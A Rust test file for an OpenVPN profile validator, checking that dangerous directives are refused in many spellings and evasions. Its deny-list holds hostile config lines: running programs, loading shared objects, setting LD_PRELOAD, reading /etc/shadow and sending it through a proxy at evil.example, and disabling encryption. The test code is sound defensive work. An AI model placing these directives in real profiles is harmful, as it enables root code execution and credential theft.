//! Tests that every dangerous directive is refused by name, in every spelling that openvpn accepts.

use super::directives::{Class, Kind, classify, known_directives};
use super::*;

const GOOD: &str = include_str!("../../../tests/fixtures/openvpn/userlocked-2024.ovpn");

/// Directives that let a profile run code, read, write or send files as root, or change the machine
/// (tried on OpenVPN 2.6, and 2.7 for `dns-updown`), with arguments that worked.
const DANGEROUS: &[&str] = &[
    // run programs
    "up /tmp/x",
    "down /tmp/x",
    "down-pre",
    "up-restart",
    "route-up /tmp/x",
    "route-pre-down /tmp/x",
    "ipchange /tmp/x",
    "tls-verify /tmp/x",
    "tls-export-cert /tmp",
    "iproute /tmp/x",
    "auth-user-pass-verify /tmp/x via-file",
    "learn-address /tmp/x",
    "client-connect /tmp/x",
    "client-disconnect /tmp/x",
    "client-crresponse /tmp/x",
    "tls-crypt-v2-verify /tmp/x",
    "dns-updown /tmp/x",
    "script-security 3",
    // load code
    "plugin /tmp/x.so",
    "plugin openvpn-plugin-down-root.so \"id\"",
    "providers default /tmp/x.so",
    "engine /tmp/x.so",
    "pkcs11-providers /tmp/x.so",
    "pkcs11-id x",
    "pkcs11-id-management",
    // environment of programs
    "setenv LD_PRELOAD /tmp/x.so",
    "setenv PATH /tmp",
    "setenv OPENSSL_CONF /tmp/x",
    "setenv-safe X y",
    "setenv X",
    // read files, and send them
    "auth-user-pass /etc/shadow",
    "http-proxy evil.example 80 /etc/shadow basic",
    "http-proxy-user-pass /etc/shadow",
    "socks-proxy evil.example 1080 /etc/shadow",
    "http-proxy evil.example 80",
    "http-proxy-option AGENT x",
    "config /etc/shadow",
    "askpass /etc/shadow",
    "ca /etc/shadow",
    "cert /etc/shadow",
    "key /etc/shadow",
    "pkcs12 /etc/shadow",
    "crl-verify /etc/shadow",
    "crl-verify /etc dir",
    "dh /etc/shadow",
    "extra-certs /etc/shadow",
    "tls-auth /etc/shadow 1",
    "tls-crypt /etc/shadow",
    "tls-crypt-v2 /etc/shadow",
    "secret /etc/shadow",
    "capath /etc",
    "client-config-dir /etc",
    "auth-gen-token-secret /etc/shadow",
    "peer-fingerprint /etc/shadow",
    // write files
    "log /etc/x",
    "log-append /etc/x",
    "status /etc/x 1",
    "replay-persist /etc/x",
    "writepid /etc/x",
    "genkey secret /etc/x",
    "ifconfig-pool-persist /etc/x",
    "tmp-dir /etc",
    "syslog x",
    // change the machine, the process, the supervisor
    "dev-node /dev/sda",
    "mktun",
    "rmtun",
    "daemon",
    "daemon x",
    "inetd",
    "chroot /tmp",
    "cd /tmp",
    "nice -20",
    "mlock",
    "setcon x",
    "mark 1",
    "bind-dev eth0",
    "local 0.0.0.0",
    "lport 53",
    "bind",
    "port-share 127.0.0.1 80",
    "remap-usr1 SIGHUP",
    "ifconfig-noexec",
    "route-noexec",
    "mode server",
    "tls-server",
    "server 10.0.0.0 255.0.0.0",
    "management 127.0.0.1 7505",
    "management /tmp/m unix",
    "management-client",
    "management-client-user root",
    "management-hold",
    "management-query-passwords",
    "management-forget-disconnect",
    "management-signal",
    "management-up-down",
    "management-external-key",
    "management-log-cache 1",
    // weaken the tunnel
    "data-ciphers none",
    "cipher none",
    "auth none",
    "tls-cert-profile insecure",
    "tls-cipher NULL",
    "no-replay",
    "ncp-ciphers AES-256-GCM:none",
    "tls-cipher ALL:@SECLEVEL=0",
    "remote-cert-tls client",
    "test-crypto",
    "keying-material-exporter x 32",
    "proto tcp-server",
    "proto-force udp",
    "dev tap",
    "dev ../x",
    "dev null",
    "dev-type tap",
    "ifconfig 10.0.0.1 10.0.0.2",
    // something else than a connection
    "show-ciphers",
    "version",
    "help",
    "show-pkcs11-ids /tmp/x.so",
];

/// Returns profiles with the directive in every spelling.
fn spellings(directive: &str) -> Vec<String> {
    let (name, rest) = directive.split_once(' ').unwrap_or((directive, ""));
    let mut lines: Vec<String> = vec![
        directive.to_owned(),
        format!("--{directive}"),
        format!("\"{name}\" {rest}"),
        format!("'{name}' {rest}"),
        format!("\"--{name}\"{rest}"),
        format!("  {directive}"),
        format!("\t{directive}"),
        format!("\x0b{directive}"),
        format!("\x0c{directive}"),
        format!("{name}\t{rest}"),
        format!("{directive} # c"),
        format!("{directive} ; c"),
        format!("{directive}\r"),
        format!("# {}\n{directive}", "x".repeat(252)),
        format!("# {}\n{directive}", "x".repeat(600)),
        format!("<connection>\nremote vpn.acme.com\n</connection>\n{directive}"),
        format!("<connection>\nremote vpn.acme.com\n{directive}\n</connection>"),
    ];
    if name != "setenv" {
        lines.push(format!("setenv opt {directive}"));
        lines.push(format!("--setenv opt {directive}"));
        lines.push(format!("\"setenv\" 'opt' {directive}"));
    }
    let mut texts: Vec<_> = lines.iter().map(|line| format!("{GOOD}{line}\n")).collect();
    texts.push(format!("\u{feff}{directive}\n{GOOD}"));
    texts.push(format!("{directive}\n{GOOD}").replace('\n', "\r\n"));
    texts.push(format!("{GOOD}{directive}"));
    texts
}

#[test]
fn dangerous_directive_is_refused_in_every_spelling() {
    let mut tried = 0;
    for directive in DANGEROUS {
        let name = directive.split(' ').next().unwrap();
        for text in spellings(directive) {
            let error = Profile::parse(text.as_bytes()).expect_err(directive);
            let named = error
                .verdicts()
                .iter()
                .any(|verdict| verdict.directive == name && verdict.ruling.is_refused());
            assert!(named, "{directive}: {error}\n{text:?}");
            tried += 1;
        }
    }
    assert!(tried > 2000, "{tried}");
}

#[test]
fn directive_behind_a_loose_closing_tag_is_found() {
    let (head, tail) = GOOD.split_once("</ca>\n").unwrap();
    for closer in [
        "</ca>junk",
        "  </ca>",
        "\t</ca>x",
        "</ca></ca>",
        "</ca> up x",
    ] {
        let text = format!("{head}{closer}\nup /tmp/x\n<ca>\n</ca>\n{tail}");
        assert!(
            matches!(
                Profile::parse(text.as_bytes()),
                Err(ProfileError::ClosingTag { .. })
            ),
            "{closer}"
        );
    }
    for opener in ["  <ca>", "\"<ca>\"", "--<ca>", "<ca> # c"] {
        let text = format!("{}\nup /tmp/x\n", GOOD.replace("<ca>", opener));
        let error = Profile::parse(text.as_bytes()).unwrap_err();
        assert!(
            error.to_string().contains("`up` runs a program"),
            "{opener}: {error}"
        );
    }
}

#[test]
fn refused_directive_as_a_block_is_refused() {
    for name in [
        "plugin",
        "up",
        "secret",
        "pkcs12",
        "http-proxy-user-pass",
        "dh",
        "auth-user-pass",
    ] {
        let text = format!("{GOOD}<{name}>\nx\n</{name}>\nplugin /tmp/x\n");
        let error = Profile::parse(text.as_bytes()).unwrap_err();
        let refused: Vec<_> = error
            .verdicts()
            .iter()
            .filter(|v| v.ruling.is_refused())
            .collect();
        assert_eq!(refused.len(), 2, "{name}");
        assert_eq!(refused[0].directive, name);
    }
}

#[test]
fn unknown_directive_is_refused() {
    for name in [
        "UP",
        "Client",
        "frobnicate",
        "up-",
        "-up",
        "---up",
        "<",
        "<>",
        "client,",
        "update-resolv",
    ] {
        let error = Profile::parse(format!("{GOOD}{name} x\n").as_bytes()).unwrap_err();
        assert!(
            matches!(error, ProfileError::Refused(_)),
            "{name}: {error:?}"
        );
    }
}

#[test]
fn key_without_its_tag_is_not_shown_in_the_refusal() {
    let text = GOOD.replace("<key>\n", "");
    let shown = format!("{:?}", Profile::parse(text.as_bytes()).unwrap_err());
    assert!(!shown.contains("Y2FuYXJ5"), "{shown}");
    let bare = GOOD
        .replace("<key>", "")
        .replace("</key>", "")
        .replace("-----BEGIN PRIVATE KEY-----", "");
    let shown = format!("{:?}", Profile::parse(bare.as_bytes()).unwrap_err());
    assert!(!shown.contains("Y2FuYXJ5"), "{shown}");
}

#[test]
fn no_dangerous_directive_is_allowed_as_a_flag() {
    for directive in DANGEROUS {
        let name = directive.split(' ').next().unwrap();
        assert!(
            !matches!(
                classify(name).map(|(_, class)| class),
                None | Some(Class::Allowed(Kind::Flag)) | Some(Class::Dropped(_))
            ),
            "{name}"
        );
    }
}

#[test]
fn every_known_directive_gets_a_verdict() {
    for name in known_directives() {
        for args in [
            "",
            "x",
            "1",
            "1 1",
            "x y z",
            "\"\"",
            "server",
            "none",
            "/etc/shadow",
            "[inline]",
            "stdin",
        ] {
            let _ = Profile::parse(format!("{GOOD}{name} {args}\n").as_bytes());
            let _ = Profile::parse(format!("{GOOD}<{name}>\n{args}\n</{name}>\n").as_bytes());
        }
    }
}

#[test]
fn canonical_text_holds_no_file_name() {
    for name in known_directives() {
        for args in [
            "/etc/shadow",
            "/etc/shadow 1",
            "x /etc/shadow",
            "x 1 /etc/shadow",
            "../x",
            "1 /etc/shadow",
        ] {
            if let Ok(profile) = Profile::parse(format!("{GOOD}{name} {args}\n").as_bytes()) {
                let canonical = profile.canonical();
                let free_text = ["verify-x509-name", "pull-filter", "static-challenge"];
                assert!(
                    free_text.contains(&name)
                        || !(canonical.expose().contains("shadow")
                            || canonical.expose().contains("../x")),
                    "{name} {args}"
                );
            }
        }
    }
}
